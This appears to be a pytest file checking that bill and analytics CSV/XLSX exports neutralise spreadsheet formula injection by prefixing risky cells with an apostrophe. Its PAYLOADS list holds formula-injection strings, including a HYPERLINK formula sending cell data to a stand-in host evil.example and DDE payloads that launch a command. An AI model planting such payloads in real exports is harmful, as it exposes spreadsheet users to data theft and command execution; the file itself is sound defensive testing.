"""Issue 11.9: no CSV or XLSX export writes a cell a spreadsheet would run as a formula."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from analytics.methods.exports import write_tables
from analytics.methods.replication_tables import grid_table
from community.models import Bill
from synergy.core.exports import safe_cell

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+86 138 0000 0000",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [
    -5, -1.5, Decimal("-12.30"), 0, dt.date(2026, 1, 1), None, True,
    "2-301", "plain text", "中文 =1", "(0.045)", "-0.123***", "-5", "+3.5e-2", "-12%",
])
def test_numbers_dates_and_harmless_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def hostile_bill(community):
    return Bill.objects.create(community=community, unit=PAYLOADS[1], period="2026-01",
                               amount=Decimal("100.50"), paid_amount=Decimal("20.00"),
                               due_date=dt.date(2026, 1, 31))


def _rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode() if response.streaming else \
        response.content.decode()
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_bills_csv_neutralises_text_and_keeps_amounts(api_as, manager, community, hostile_bill):
    response = api_as(manager).get(f"/api/v1/communities/{community.pk}/bills/export/")
    assert response.status_code == 200
    header, row = _rows(response)
    assert row[0] == "'" + PAYLOADS[1]
    assert row[1:5] == ["2026-01", "100.50", "20.00", "80.50"]


def test_the_bills_csv_page_neutralises_text_too(client, manager, community, hostile_bill):
    client.force_login(manager)
    response = client.get(f"/community/{community.slug}/bills/export.csv")
    assert response.status_code == 200
    assert _rows(response)[1][0] == "'" + PAYLOADS[1]


def test_analytics_tables_neutralise_labels_and_text_in_csv_and_xlsx(tmp_path):
    table = grid_table(pd.DataFrame({"@coef": [-0.5, 2.0]},
                                    index=pd.Index(["=HYPERLINK(\"x\")", "Dist"])))
    table["index_key"] = "-var"
    labels = {"Dist": "=1+1"}
    write_tables(tmp_path, tables={"t": table}, labels=labels, titles={"t": "=title"},
                 notes=["+notes"])

    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8-sig"))))
    assert rows[0] == ["'-var", "'@coef"]
    assert rows[1] == ["'=HYPERLINK(\"x\")", "-0.5"]  # a number stays a number
    assert rows[2] == ["'=1+1", "2.0"]
    assert rows[-1] == ["#", "'+notes"]

    book = load_workbook(tmp_path / "t.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    values = [c.value for c in cells]
    assert "'=title" in values and "'+notes" in values and "'=1+1" in values
    assert -0.5 in values and "-0.5000" in values  # numbers stay numbers beside the text
